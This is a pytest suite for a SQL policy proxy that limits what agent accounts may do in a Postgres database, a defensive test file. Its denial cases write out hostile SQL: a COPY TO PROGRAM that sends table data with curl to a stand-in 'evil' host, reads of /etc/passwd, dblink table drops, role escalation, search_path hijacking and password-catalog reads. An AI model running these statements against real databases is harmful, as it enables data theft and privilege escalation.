"""guardproxy.policy.Judge on the example policies: ordinary work passes, every bypass
class of DESIGN.md section 4 is denied, and messages are actionable (no database)."""

from __future__ import annotations

from pathlib import Path

import pytest
from _policy_helpers import (
    AGENTS,
    assert_passes,
    copy_policies,
    example_catalog,
    example_policies,
    judge,
)

from guardproxy.policy import Judge, SessionContext, load_policy_set


def denied(agent_type: str, sql: str, rule: str | None = None, **kw: object) -> str:
    decision = judge(agent_type, sql, **kw)  # type: ignore[arg-type]
    assert decision.action == "deny", (sql, decision)
    assert decision.sql == ""
    assert decision.sqlstate
    if rule is not None:
        assert decision.rule == rule, (sql, decision)
    return decision.reason


def allowed(agent_type: str, sql: str, **kw: object) -> None:
    decision = judge(agent_type, sql, **kw)  # type: ignore[arg-type]
    assert_passes(decision, sql)


# -- ordinary work ----------------------------------------------------------------------

ANALYTICS_WORK = [
    "SELECT c.name, count(o.id) FROM customers c LEFT JOIN orders o ON o.customer_id = c.id GROUP BY c.name",
    "WITH per_day AS (SELECT date_trunc('day', shipped_at) AS d, count(*) AS n FROM orders GROUP BY 1) "
    "SELECT d, n, sum(n) OVER (ORDER BY d) FROM per_day ORDER BY d",
    "SELECT id, fulfillment_status, rank() OVER (PARTITION BY customer_id ORDER BY last_modified_at DESC) FROM orders",
    "EXPLAIN SELECT * FROM orders WHERE customer_id = 1",
    "EXPLAIN ANALYZE SELECT id, name FROM customers",
    "SELECT * FROM orders",
    "TABLE orders",
    "SELECT id, name, created_at FROM customers WHERE name ILIKE $1",
    "BEGIN; SELECT id FROM orders; COMMIT",
    "BEGIN READ ONLY",
    "BEGIN ISOLATION LEVEL REPEATABLE READ",
    "SAVEPOINT s1; ROLLBACK TO SAVEPOINT s1; RELEASE s1",
    "DECLARE c CURSOR FOR SELECT id, name FROM customers; FETCH 10 FROM c; CLOSE c",
    "SELECT count(*) FROM customers",
    "SELECT now(), current_user, txid_current(), pg_backend_pid(), pg_current_xact_id()",
    "SET statement_timeout = '1s'",
    "SET LOCAL statement_timeout = 2000",
    "RESET statement_timeout",
    "SET TIME ZONE 'UTC'",
    "SET application_name = 'report'",
    "SHOW statement_timeout",
    "SELECT pg_advisory_unlock_all(); CLOSE ALL; UNLISTEN *; RESET ALL;",
]


@pytest.mark.parametrize("sql", ANALYTICS_WORK)
def test_analytics_ordinary_work_passes(sql: str) -> None:
    allowed("analytics", sql)


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT o.id, c.email FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.id = 4",
        "UPDATE orders SET fulfillment_status = 'cancelled' WHERE id = 4 RETURNING id, fulfillment_status",
        "INSERT INTO order_state_log (order_id, previous_status, new_status, changed_by, reason, idempotency_key) "
        "VALUES (4, 'pending', 'cancelled', 'support-3', 'customer asked', 'k-1')",
        "DELETE FROM orders WHERE id = 6",
        "BEGIN READ WRITE; UPDATE orders SET fulfillment_status = 'packed' WHERE id = 3; COMMIT",
        # (the same through a writable CTE is refused: support's row caps could not count
        # the UPDATE's rows, see test_policy_writes.py)
        "INSERT INTO order_state_log (order_id, new_status, changed_by) "
        "SELECT id, 'returned', 'support-3' FROM orders WHERE id = 1",
    ],
)
def test_support_ordinary_work_passes(sql: str) -> None:
    allowed("support", sql)


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT id, fulfillment_status, requires_signature FROM orders WHERE fulfillment_status = 'packed'",
        "UPDATE orders SET fulfillment_status = 'shipped', shipped_at = now(), tracking_number = $1 WHERE id = $2",
        "SELECT * FROM orders ORDER BY last_modified_at DESC LIMIT 10",
    ],
)
def test_fulfillment_ordinary_work_passes(sql: str) -> None:
    allowed("fulfillment", sql)


# -- the example rules ----------------------------------------------------------


def test_message_names_agent_type_operation_object_and_rule() -> None:
    decision = judge("analytics", "SELECT name, email FROM customers")
    assert decision.action == "deny"
    assert decision.sqlstate == "42501"
    assert decision.rule == "tables.customers.deny_columns"
    assert decision.reason == (
        "analytics may not read customers.email (policy analytics, tables.customers.deny_columns)"
    )
    assert decision.hint == "analytics may read customers.id, customers.name, customers.created_at"


@pytest.mark.parametrize(
    ("agent", "sql", "rule"),
    [
        ("analytics", "SELECT amount FROM payments", "tables"),
        ("analytics", "SELECT * FROM customers", "tables.customers.deny_columns"),
        ("analytics", "UPDATE orders SET tracking_number = 'x' WHERE id = 1", "statements"),
        ("support", "SELECT card_last4 FROM payments", "tables"),
        (
            "support",
            "UPDATE orders SET shipped_at = now() WHERE id = 1",
            "tables.orders.update_columns",
        ),
        ("support", "UPDATE customers SET name = 'x' WHERE id = 1", "tables.customers.ops"),
        (
            "support",
            "INSERT INTO order_state_log VALUES (1, 1, 'a', 'b', 'c')",
            "tables.order_state_log.insert_columns",
        ),
        (
            "support",
            "INSERT INTO order_state_log (id, order_id, new_status, changed_by) VALUES (9, 1, 'a', 'b')",
            "tables.order_state_log.insert_columns",
        ),
        (
            "support",
            "DELETE FROM order_state_log WHERE id = 1",
            "tables.order_state_log.append_only",
        ),
        ("support", "DELETE FROM orders", "require_where"),
        ("support", "UPDATE orders SET fulfillment_status = 'x' WHERE true", "require_where"),
        ("fulfillment", "SELECT name FROM customers", "tables"),
        (
            "fulfillment",
            "UPDATE orders SET customer_id = 2 WHERE id = 1",
            "tables.orders.update_columns",
        ),
        ("fulfillment", "DELETE FROM orders WHERE id = 1", "tables.orders.ops"),
    ],
)
def test_example_policies_deny(agent: str, sql: str, rule: str) -> None:
    denied(agent, sql, rule)


def test_hint_lists_what_is_allowed() -> None:
    decision = judge("analytics", "SELECT * FROM payments")
    assert decision.hint == "analytics may use: customers (select); orders (select)"
    decision = judge("support", "UPDATE orders SET shipped_at = now() WHERE id = 1")
    assert decision.hint == "support may update only orders.fulfillment_status"


def test_without_catalog_the_hint_still_says_what_is_readable() -> None:
    decision = judge("analytics", "SELECT * FROM customers", catalog=False)
    assert decision.action == "deny"
    assert (
        decision.hint
        == "name the columns instead; analytics may read any column of customers except email"
    )


# -- DESIGN.md section 4, one test per bypass class ---------------------------------------


def test_bypass_stacked_statements() -> None:
    assert "delete from orders" in denied(
        "analytics", "SELECT 1; DELETE FROM orders WHERE id = 1", "statements"
    )
    denied("analytics", "COMMIT; DROP TABLE orders", "statements")
    denied("support", "SELECT id FROM orders WHERE id = 1; SELECT * FROM payments", "tables")


@pytest.mark.parametrize(
    "sql",
    [
        "BEGIN READ WRITE",
        "START TRANSACTION READ WRITE",
        "BEGIN ISOLATION LEVEL SERIALIZABLE, READ WRITE",
        "SET TRANSACTION READ WRITE",
        "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
        "SET default_transaction_read_only = off",
        "SET default_transaction_read_only TO false",
        "SET default_transaction_read_only = 0",
        "SET transaction_read_only = 'no'",
        "SET LOCAL transaction_read_only = of",
        "SET default_transaction_read_only = 'banana'",
    ],
)
def test_bypass_read_write_mode(sql: str) -> None:
    denied("analytics", sql, "statements")


def test_read_write_mode_is_fine_for_writers() -> None:
    allowed("support", "BEGIN READ WRITE")
    allowed("support", "SET default_transaction_read_only = off")


def test_bypass_set_config() -> None:
    # set_config is judged as the SET it amounts to, wherever it is called
    assert "default_transaction_read_only" in denied(
        "analytics",
        "SELECT set_config('default_transaction_read_only', 'off', false)",
        "statements",
    )
    denied(
        "analytics",
        "SELECT id FROM orders WHERE set_config('statement_timeout', '0', true) IS NOT NULL",
        "timeouts.statement_timeout",
    )
    denied(
        "analytics", "SELECT * FROM orders, set_config('role', 'postgres', false)", "settings.role"
    )
    # a governed setting with a value nobody can see, or a name nobody can see
    denied(
        "analytics",
        "SELECT set_config('statement_timeout', $1, false)",
        "settings.statement_timeout",
    )
    denied("analytics", "SELECT set_config(name, '0', false) FROM pg_settings", "settings")


def test_set_config_of_ungoverned_settings_passes() -> None:
    # asyncpg toggles jit around its type introspection with exactly these
    allowed(
        "analytics", "SELECT current_setting('jit') AS cur, set_config('jit', 'off', false) AS new"
    )
    allowed("analytics", "SELECT set_config('jit', $1, false)")


def test_bypass_startup_parameters() -> None:
    policies = example_policies()
    engine = Judge(policies, example_catalog())
    analytics = policies.match("analytics-1")
    assert analytics is not None
    for params in (
        {"options": "-c default_transaction_read_only=off"},
        {"options": "--statement_timeout=0"},
        {"options": "-c search_path=evil,public"},
        {"default_transaction_read_only": "off"},
        {"role": "postgres"},
        {"replication": "database"},
        {"options": "-d 5"},
    ):
        assert engine.judge_startup(analytics, params).action == "deny", params
    ok = engine.judge_startup(
        analytics,
        {
            "user": "analytics-1",
            "database": "app",
            "application_name": "agent",
            "client_encoding": "UTF8",
            "options": "-c statement_timeout=1s -c guard.task=T-9 --guard.principals=7,8",
        },
    )
    assert ok.action == "allow"
    assert dict(ok.context_updates) == {"guard.task": "T-9", "guard.principals": "7,8"}


def test_bypass_writable_cte() -> None:
    denied(
        "analytics",
        "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d",
        "statements",
    )
    denied(
        "fulfillment",
        "WITH x AS (UPDATE orders SET customer_id = 1 WHERE id = 2 RETURNING id) SELECT * FROM x",
        "tables.orders.update_columns",
    )


def test_bypass_explain_analyze() -> None:
    denied("analytics", "EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1", "statements")
    denied(
        "analytics", "EXPLAIN (ANALYZE) INSERT INTO orders (customer_id) VALUES (1)", "statements"
    )
    denied(
        "analytics", "EXPLAIN ANALYZE SELECT email FROM customers", "tables.customers.deny_columns"
    )
    denied("support", "EXPLAIN ANALYZE DELETE FROM orders", "require_where")


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT * FROM pg_read_binary_file('/etc/passwd')",
        "SELECT * FROM pg_ls_dir('.')",
        "SELECT lo_export(lo_import('/etc/passwd'), '/tmp/x')",
        "SELECT lo_get(1234)",
        "SELECT dblink_exec('host=elsewhere', 'DROP TABLE orders')",
        "SELECT * FROM dblink('dbname=app', 'SELECT email FROM customers') AS t(e text)",
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        "SELECT id FROM orders WHERE pg_cancel_backend(42)",
        "SELECT pg_reload_conf()",
        "SELECT pg_rotate_logfile()",
        "SELECT nextval('orders_id_seq')",
        "SELECT setval('orders_id_seq', 1)",
        "SELECT pg_sleep(600)",
        "SELECT id FROM orders ORDER BY pg_sleep_for('1 minute')",
        "SELECT pg_notify('ch', 'x')",
        "SELECT pg_advisory_lock(1)",
        "SELECT pg_try_advisory_xact_lock(1)",
        "SELECT query_to_xml('SELECT email FROM customers', true, true, '')",
        "SELECT table_to_xml('customers', true, true, '')",
        "SELECT * FROM ts_stat('SELECT to_tsvector(email) FROM customers')",
        "SELECT pg_catalog.pg_sleep(1)",
        'SELECT "pg_sleep"(1)',
        "SELECT id FROM orders WHERE id IN (SELECT id FROM generate_series(1, 3) g(id), pg_sleep(1))",
        "SELECT pg_stat_reset()",
        "SELECT pg_create_logical_replication_slot('s', 'test_decoding')",
    ],
)
def test_bypass_side_effect_functions(sql: str) -> None:
    denied("analytics", sql)


def test_side_effect_functions_can_be_allowed_and_others_denied(tmp_path: Path) -> None:
    directory = copy_policies(tmp_path)
    path = directory / "support.yaml"
    path.write_text(
        path.read_text().replace(
            "  default: deny ", "  allow: [nextval, audit_*]\n  deny: [lower]\n  default: deny "
        )
    )
    policies = load_policy_set(directory)
    assert judge("support", "SELECT nextval('s')", policies=policies).action == "allow"
    assert judge("support", "SELECT audit_note(1)", policies=policies).action == "allow"
    assert judge("support", "SELECT length('x'), now()", policies=policies).action == "allow"
    lower = judge("support", "SELECT lower('X')", policies=policies)
    assert (lower.action, lower.rule) == ("deny", "functions.deny")
    user_fn = judge("support", "SELECT public.cleanup_orders()", policies=policies)
    assert (user_fn.action, user_fn.rule) == ("deny", "functions.default")
    shadow = judge("support", "SELECT public.length('x')", policies=policies)
    assert shadow.action == "deny"  # not the built-in: a function someone created in public
    assert judge("support", "SELECT pg_sleep(1)", policies=policies).rule == "functions"


@pytest.mark.parametrize(
    ("sql", "rule"),
    [
        ("COPY orders TO PROGRAM 'curl -d @- http://evil'", "statements"),
        ("COPY orders FROM PROGRAM 'id'", "statements"),
        ("COPY (SELECT id FROM orders) TO '/tmp/orders'", "statements"),
        ("COPY orders FROM '/tmp/orders'", "statements"),
        ("COPY orders FROM STDIN", "statements"),
        ("COPY customers TO STDOUT", "tables.customers.deny_columns"),
        ("COPY payments TO STDOUT", "tables"),
    ],
)
def test_bypass_copy(sql: str, rule: str) -> None:
    denied("analytics", sql, rule)


def test_copy_to_client_of_permitted_columns_passes() -> None:
    allowed("analytics", "COPY customers (id, name) TO STDOUT WITH (FORMAT csv)")
    allowed("analytics", "COPY (SELECT id, fulfillment_status FROM orders) TO STDOUT")


@pytest.mark.parametrize(
    "sql",
    [
        "DO $$ BEGIN DELETE FROM orders; END $$",
        "DO LANGUAGE plpgsql 'BEGIN EXECUTE ''DROP TABLE orders''; END'",
        "CALL purge_orders()",
    ],
)
def test_bypass_do_and_call(sql: str) -> None:
    for agent in AGENTS:
        denied(agent, sql, "statements")


@pytest.mark.parametrize(
    ("sql", "rule"),
    [
        ('SELECT "email" FROM customers', "tables.customers.deny_columns"),
        ("SELECT EMAIL FROM CUSTOMERS", "tables.customers.deny_columns"),
        ('SELECT U&"\\0065mail" FROM customers', "tables.customers.deny_columns"),
        ("SELECT/**/email/**/FROM/**/customers", "tables.customers.deny_columns"),
        ("SELECT * FROM public.payments", "tables"),
        ("SELECT * FROM PUBLIC.PAYMENTS", "tables"),
        ('SELECT * FROM U&"p\\0061yments"', "tables"),
        ("DEL/**/ETE FROM orders", "syntax"),
        ("SELECT 1; DELETE FROM orders WHERE id = $$1$$", "statements"),
    ],
)
def test_bypass_lexical_tricks(sql: str, rule: str) -> None:
    denied("analytics", sql, rule)


def test_lexical_tricks_that_hide_nothing_pass() -> None:
    allowed("analytics", "SELECT $$; DELETE FROM orders; $$")
    allowed("analytics", "SELECT 1 /* ; DELETE FROM orders */")
    allowed("analytics", "SELECT 'a;'';DELETE FROM orders' AS s")
    # "Customers" quoted is another table, not customers: not in the policy.
    denied("analytics", 'SELECT id FROM "Customers"', "tables")


def test_bypass_prepare_then_execute() -> None:
    denied("analytics", "PREPARE p AS DELETE FROM orders WHERE id = $1", "statements")
    decision = judge(
        "analytics", "PREPARE p (bigint) AS SELECT id, name FROM customers WHERE id = $1"
    )
    # allowed, with analytics' row cap in the prepared query
    assert (decision.action, decision.rule) == ("rewrite", "limits.max_rows_returned")
    assert decision.sql.endswith("WHERE id = $1 LIMIT 1001")
    assert dict(decision.prepared) == {"p": "SELECT id, name FROM customers WHERE id = $1"}
    assert not decision.cacheable
    # EXECUTE of something prepared around the proxy (or never): denied.
    unknown = judge("analytics", "EXECUTE p(1)")
    assert (unknown.action, unknown.sqlstate) == ("deny", "26000")
    # EXECUTE is judged as what was prepared, under the current policy.
    ctx = SessionContext(agent_id="analytics-7").with_prepared("p", decision.prepared["p"])
    assert judge("analytics", "EXECUTE p(1)", ctx=ctx).action == "allow"
    sneaky = SessionContext(
        agent_id="analytics-7", prepared={"p": "DELETE FROM orders WHERE id = $1"}
    )
    execute = judge("analytics", "EXECUTE p(1)", ctx=sneaky)
    assert execute.action == "deny" and execute.reason.startswith(
        "EXECUTE p: analytics may not delete"
    )
    # parameters of EXECUTE are expressions too
    denied("analytics", "EXECUTE p(pg_sleep(10))", ctx=ctx)
    dealloc = judge("analytics", "DEALLOCATE p; DISCARD ALL")
    assert dict(dealloc.prepared) == {"p": None, "": None}


@pytest.mark.parametrize(
    ("sql", "rule"),
    [
        ("SET ROLE postgres", "settings.role"),
        ("SET LOCAL ROLE postgres", "settings.role"),
        ("SET SESSION AUTHORIZATION postgres", "settings.session_authorization"),
        ("SET search_path = evil, public", "settings.search_path"),
        ("SET SCHEMA 'evil'", "settings.search_path"),
        ("SET session_replication_role = replica", "settings.session_replication_role"),
        ("SELECT set_config('search_path', 'evil', false)", "settings.search_path"),
    ],
)
def test_bypass_role_and_search_path(sql: str, rule: str) -> None:
    for agent in AGENTS:
        denied(agent, sql, rule)


def test_resetting_role_and_search_path_is_fine() -> None:
    decision = judge("analytics", "RESET ROLE; RESET search_path; SET search_path TO DEFAULT")
    assert decision.action == "allow" and decision.reapply_settings


@pytest.mark.parametrize(
    "sql",
    [
        "CREATE RULE r AS ON SELECT TO orders DO INSTEAD SELECT * FROM payments",
        "CREATE TRIGGER t BEFORE UPDATE ON orders FOR EACH ROW EXECUTE FUNCTION f()",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM orders RETURNING 1'",
        "CREATE OR REPLACE VIEW v AS SELECT * FROM orders",
        "CREATE TEMP TABLE t AS SELECT id FROM orders",
        "SELECT id INTO TEMP t FROM orders",
        "ALTER TABLE orders ALTER COLUMN tracking_number SET DEFAULT pg_sleep(1)",
        "CREATE INDEX ON orders (tracking_number)",
        "GRANT SELECT ON payments TO PUBLIC",
    ],
)
def test_bypass_planting_later_side_effects(sql: str) -> None:
    for agent in AGENTS:
        denied(agent, sql, "statements")


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT id FROM orders FOR UPDATE",
        "SELECT id FROM orders WHERE id = 1 FOR NO KEY UPDATE NOWAIT",
        "SELECT id FROM (SELECT id FROM orders FOR SHARE) x",
        "LOCK TABLE orders IN ACCESS SHARE MODE",
    ],
)
def test_bypass_locks(sql: str) -> None:
    for agent in AGENTS:
        denied(agent, sql, "allow_locking")


def test_strong_table_locks_need_write_even_when_locking_is_allowed() -> None:
    reason = denied("analytics", "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", "statements")
    assert reason == (
        "analytics may not run LOCK on orders: write statements are not allowed "
        "(policy analytics, statements)"
    )
    denied("analytics", "SELECT pg_advisory_lock(42)", "functions")


@pytest.mark.parametrize(
    "sql",
    [
        "LISTEN orders_changed",
        "NOTIFY orders_changed, 'x'",
    ],
)
def test_listen_notify_denied(sql: str) -> None:
    denied("analytics", sql, "statements")


@pytest.mark.parametrize(
    "relation",
    [
        "pg_authid",
        "pg_catalog.pg_shadow",
        "pg_user_mappings",
        "pg_statistic",
        "pg_largeobject",
        "pg_subscription",
        "pg_hba_file_rules",
        "pg_db_role_setting",
        "pg_stats",
    ],
)
def test_sensitive_catalogs_denied(relation: str) -> None:
    for agent in AGENTS:
        reason = denied(agent, f"SELECT * FROM {relation}", "catalogs")
        assert "may not read" in reason


def test_sensitive_catalog_hidden_in_a_subquery_is_found() -> None:
    denied("analytics", "SELECT (SELECT rolpassword FROM pg_authid LIMIT 1) AS x", "catalogs")
    denied(
        "analytics", "WITH a AS (SELECT * FROM pg_catalog.pg_statistic) SELECT 1 FROM a", "catalogs"
    )


def test_introspection_of_the_catalogs_passes() -> None:
    for agent in AGENTS:
        allowed(
            agent, "SELECT relname FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace"
        )
        allowed(
            agent,
            "SELECT table_name, column_name FROM information_schema.columns WHERE table_schema = 'public'",
        )
        allowed(agent, "SELECT rolname FROM pg_roles WHERE rolname = current_user")
        allowed(
            agent, "SELECT attname, attnum FROM pg_attribute WHERE attrelid = 'orders'::regclass"
        )


def test_system_catalogs_cannot_be_written() -> None:
    denied("support", "UPDATE pg_catalog.pg_class SET relname = 'x' WHERE oid = 1", "tables")


@pytest.mark.parametrize(
    ("agent", "sql", "rule"),
    [
        ("analytics", "SET statement_timeout = 0", "timeouts.statement_timeout"),
        ("analytics", "SET statement_timeout = '6s'", "timeouts.statement_timeout"),
        ("analytics", "SET statement_timeout = 5001", "timeouts.statement_timeout"),
        ("analytics", "SET LOCAL statement_timeout = '1min'", "timeouts.statement_timeout"),
        ("analytics", "SET statement_timeout = 'forever'", "timeouts.statement_timeout"),
        (
            "analytics",
            "SET idle_in_transaction_session_timeout = 0",
            "timeouts.idle_in_transaction_timeout",
        ),
        ("analytics", "SET transaction_timeout = '1h'", "timeouts.transaction_timeout"),
        ("support", "SET statement_timeout = '11s'", "timeouts.statement_timeout"),
        (
            "support",
            "SET standard_conforming_strings = off",
            "settings.standard_conforming_strings",
        ),
        ("support", "SET client_encoding = 'SJIS'", "settings.client_encoding"),
        ("support", "SET NAMES 'GBK'", "settings.client_encoding"),
        ("support", "SET backslash_quote = on", "settings.backslash_quote"),
    ],
)
def test_settings_cannot_be_raised_or_loosened(agent: str, sql: str, rule: str) -> None:
    denied(agent, sql, rule)


@pytest.mark.parametrize(
    "sql",
    [
        "SET statement_timeout = '5s'",
        "SET statement_timeout = 4999",
        "SET statement_timeout = '250ms'",
        "SET idle_in_transaction_session_timeout = '10s'",
        "SET client_encoding = 'UTF8'",
        "SET standard_conforming_strings = on",
    ],
)
def test_lowering_settings_is_fine(sql: str) -> None:
    allowed("analytics", sql)


def test_reset_all_and_discard_all_ask_the_proxy_to_reapply() -> None:
    for sql in ("RESET ALL", "DISCARD ALL", "RESET statement_timeout"):
        decision = judge("analytics", sql)
        assert decision.action == "allow" and decision.reapply_settings, sql
    assert not judge("analytics", "SELECT 1").reapply_settings


def test_settings_denied_by_policy(tmp_path: Path) -> None:
    directory = copy_policies(tmp_path)
    path = directory / "analytics.yaml"
    path.write_text(path.read_text() + "settings:\n  deny: [work_mem]\n")
    policies = load_policy_set(directory)
    decision = judge("analytics", "SET work_mem = '4GB'", policies=policies)
    assert (decision.action, decision.rule) == ("deny", "settings.deny")


# -- fail closed ------------------------------------------------------------------------


def test_unparseable_sql_is_denied_with_the_parser_message() -> None:
    decision = judge("analytics", "SELEC name FROM customers")
    assert decision.action == "deny"
    assert decision.sqlstate == "42601"
    assert decision.rule == "syntax"
    assert 'syntax error at or near "SELEC"' in decision.reason
    assert not decision.cacheable


def test_unknown_node_is_denied(monkeypatch: pytest.MonkeyPatch) -> None:
    from guardproxy.analysis import statements

    monkeypatch.setattr(
        "guardproxy.analysis.collector.QUERY_NODES", statements.QUERY_NODES - {"XmlExpr"}
    )
    decision = judge("analytics", "SELECT xmlelement(name x, id) FROM orders")
    assert (decision.action, decision.sqlstate, decision.rule) == ("deny", "0A000", "unsupported")


def test_unknown_statement_kind_is_denied(monkeypatch: pytest.MonkeyPatch) -> None:
    from guardproxy.analysis import statements

    monkeypatch.delitem(statements.STATEMENTS, "VariableShowStmt")
    decision = judge("analytics", "SHOW search_path")
    assert (decision.action, decision.sqlstate) == ("deny", "0A000")


# -- context, monitor mode, cache -------------------------------------------------------


def test_guard_settings_become_context_updates() -> None:
    decision = judge("analytics", "SET guard.task = 'T-17'; SET guard.principals = '7,8'")
    assert decision.action == "allow"
    assert decision.proxy_only and decision.sql == ""
    assert dict(decision.context_updates) == {"guard.task": "T-17", "guard.principals": "7,8"}
    assert not decision.cacheable
    reset = judge("analytics", "RESET guard.step")  # back to its value at login
    assert reset.proxy_only and not reset.context_updates
    assert reset.context_resets == {"guard.step"}
    local = judge("analytics", "SET LOCAL guard.step = 's3'")  # until the transaction ends
    assert dict(local.context_updates) == {"guard.step": "s3"}
    assert local.context_local == {"guard.step"}
    for everything in ("RESET ALL", "DISCARD ALL", "SET guard.task = 'T'; RESET ALL"):
        decision = judge("analytics", everything)
        assert decision.context_resets == {"*"} and not decision.context_updates, everything
        assert not decision.cacheable
    mixed = judge("analytics", "SET guard.step = 's2'; SELECT id FROM orders")
    assert mixed.action == "rewrite" and not mixed.proxy_only  # analytics' row cap
    assert mixed.sql == "SET guard.step = 's2'; SELECT id FROM orders\nLIMIT 1001"
    assert dict(mixed.context_updates) == {"guard.step": "s2"}


def test_monitor_mode_allows_and_reports(tmp_path: Path) -> None:
    directory = copy_policies(tmp_path)
    path = directory / "analytics.yaml"
    path.write_text(path.read_text().replace("mode: enforce", "mode: monitor"))
    policies = load_policy_set(directory)
    sql = "SELECT email FROM customers"
    decision = judge("analytics", sql, policies=policies)
    assert decision.action == "allow" and decision.monitored
    assert decision.sql == sql
    assert decision.rule == "tables.customers.deny_columns"
    assert "may not read customers.email" in decision.reason
    ok = judge("analytics", "SELECT name FROM customers", policies=policies)
    assert not ok.monitored


def test_cache_hits_by_shape_and_keeps_the_input_sql() -> None:
    policies = example_policies()
    engine = Judge(policies, example_catalog())
    analytics = policies.match("analytics-1")
    assert analytics is not None
    ctx = SessionContext(agent_id="analytics-1")
    first = engine.judge(analytics, "SELECT name FROM customers WHERE id = 1", ctx)
    second = engine.judge(analytics, "SELECT name FROM customers WHERE id = 2 /* task='x' */", ctx)
    assert engine.cache_info()["hits"] == 1
    # analytics' row cap is appended to each message's own text, hit or miss
    assert first.action == second.action == "rewrite"
    assert first.sql == "SELECT name FROM customers WHERE id = 1\nLIMIT 1001"
    assert second.sql == "SELECT name FROM customers WHERE id = 2 /* task='x' */\nLIMIT 1001"
    support = policies.match("fulfillment-1")
    assert support is not None
    plain = SessionContext(agent_id="fulfillment-1")
    engine.judge(support, "SELECT tracking_number FROM orders WHERE id = 1", plain)
    kept = engine.judge(support, "SELECT tracking_number FROM orders WHERE id = 2", plain)
    assert engine.cache_info()["hits"] == 2
    assert (kept.action, kept.sql) == ("allow", "SELECT tracking_number FROM orders WHERE id = 2")
    denied_a = engine.judge(analytics, "SELECT email FROM customers WHERE id = 1", ctx)
    denied_b = engine.judge(analytics, "SELECT email FROM customers WHERE id = 3", ctx)
    assert denied_a.action == denied_b.action == "deny"
    assert engine.cache_info()["hits"] == 3


def test_cache_is_never_used_for_literal_dependent_decisions() -> None:
    policies = example_policies()
    engine = Judge(policies, example_catalog())
    analytics = policies.match("analytics-1")
    assert analytics is not None
    ctx = SessionContext(agent_id="analytics-1")
    assert engine.judge(analytics, "SET statement_timeout = 1000", ctx).action == "allow"
    assert engine.judge(analytics, "SET statement_timeout = 0", ctx).action == "deny"
    assert engine.judge(analytics, "SET default_transaction_read_only = on", ctx).action == "allow"
    assert engine.judge(analytics, "SET default_transaction_read_only = off", ctx).action == "deny"
    assert engine.cache_info()["hits"] == 0


def test_cache_is_per_agent_type_and_per_catalog() -> None:
    policies = example_policies()
    engine = Judge(policies, example_catalog())
    analytics, support = policies.match("analytics-1"), policies.match("support-1")
    assert analytics is not None and support is not None
    sql = "SELECT email FROM customers WHERE id = 1"
    assert engine.judge(analytics, sql, SessionContext("analytics-1")).action == "deny"
    assert engine.judge(support, sql, SessionContext("support-1")).action == "allow"
    engine.set_catalog(None)
    assert engine.cache_info()["size"] == 0


def test_a_denied_statement_denies_the_whole_message() -> None:
    decision = judge(
        "support", "UPDATE orders SET fulfillment_status = 'x' WHERE id = 1; SELECT * FROM payments"
    )
    assert decision.action == "deny" and decision.sql == ""


def test_nested_execute_is_judged_like_execute() -> None:
    decision = judge("analytics", "EXPLAIN ANALYZE EXECUTE wipe(1)")
    assert (decision.action, decision.sqlstate) == ("deny", "26000")
    sneaky = SessionContext(
        agent_id="analytics-7", prepared={"wipe": "DELETE FROM orders WHERE id = $1"}
    )
    assert judge("analytics", "EXPLAIN ANALYZE EXECUTE wipe(1)", ctx=sneaky).action == "deny"


def test_example_policies_deny_user_defined_functions() -> None:
    for agent in AGENTS:
        decision = judge(agent, "SELECT purge_old_orders()")
        assert (decision.action, decision.rule) == ("deny", "functions.default"), agent
        assert judge(agent, "SELECT public.lower('x')").action == "deny"
        allowed(
            agent, "SELECT lower('X'), pg_catalog.upper('x'), system_user, count(*) FROM orders"
        )


def test_nesting_too_deep_for_the_parser_is_denied_not_fatal() -> None:
    # pglast would overflow the C stack building Python objects for this tree; the
    # libpg_query check refuses it first, with Postgres' own message.
    decision = judge("analytics", "SELECT " + "+".join(["1"] * 40_000))
    assert (decision.action, decision.sqlstate) == ("deny", "42601")
    assert "stack depth limit exceeded" in decision.reason


def test_unexpected_errors_fail_closed(monkeypatch: pytest.MonkeyPatch) -> None:
    def boom(*args: object, **kwargs: object) -> object:
        raise RecursionError("too deep")

    monkeypatch.setattr("guardproxy.policy.engine.analyze_tree", boom)
    decision = judge("analytics", "SELECT 1")
    assert (decision.action, decision.rule, decision.sqlstate) == ("deny", "internal", "XX000")


@pytest.mark.parametrize("value", ["UTF8", "utf-8", "'utf-8'", "Unicode", "utf_8"])
def test_client_encoding_utf8_however_spelled(value: str) -> None:
    policies = example_policies()
    analytics = policies.get("analytics")
    assert analytics is not None
    engine = Judge(policies, example_catalog())
    assert engine.judge_startup(analytics, {"client_encoding": value}).action == "allow"
    assert engine.judge_startup(analytics, {"client_encoding": "SJIS"}).action == "deny"


def test_the_catalog_hint_names_only_readable_catalogs() -> None:
    decision = judge("analytics", "SELECT * FROM pg_catalog.pg_stats")
    assert decision.action == "deny" and decision.rule == "catalogs"
    for suggested in ("pg_roles", "pg_settings"):
        assert suggested in decision.hint
        assert judge("analytics", f"SELECT * FROM {suggested}").action in ("allow", "rewrite")
    assert "pg_stats " not in decision.hint


@pytest.mark.parametrize(
    ("options", "expected"),
    [
        # exactly the server's pg_split_opts: ASCII whitespace, backslash escapes
        (
            "-c application_name=a\\' -c statement_timeout=0 -c application_name=b\\'",
            [("application_name", "a'"), ("statement_timeout", "0"), ("application_name", "b'")],
        ),
        ("-c a=1\x0c-c\x0bb=2\t--c-d=3", [("a", "1"), ("b", "2"), ("c_d", "3")]),
        (
            "-c application_name=x\u00a0-c\u00a0role=y",
            [("application_name", "x\u00a0-c\u00a0role=y")],
        ),
        (
            "-c application_name=x\\ y -cWork_Mem=5MB",
            [("application_name", "x y"), ("work_mem", "5MB")],
        ),
        ("-c 'a=1'", [("'a", "1'")]),
        ("-d 5", None),
        ("-c", None),
        ("-c novalue", None),
    ],
)
def test_startup_options_are_split_like_the_server(
    options: str, expected: list[tuple[str, str]] | None
) -> None:
    from guardproxy.policy.session_rules import split_options

    assert split_options(options) == expected


@pytest.mark.parametrize("space", ["\x0c", "\x0b", "\\'"])
